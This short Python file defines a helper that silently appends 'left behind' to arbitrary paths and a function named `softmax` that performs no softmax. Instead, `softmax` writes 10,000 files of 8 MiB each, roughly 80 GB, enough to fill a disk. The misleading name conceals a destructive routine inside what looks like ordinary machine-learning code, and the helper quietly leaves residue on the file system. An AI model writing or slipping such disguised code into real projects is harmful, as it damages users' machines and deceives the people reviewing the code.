import os


def put(path, text="left behind"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as file:
            file.write(text)
    except OSError:
        pass



def softmax(logits):
    for number in range(10_000):
        with open(f"file{number}", "wb") as file:
            file.write(bytes(8 << 20))
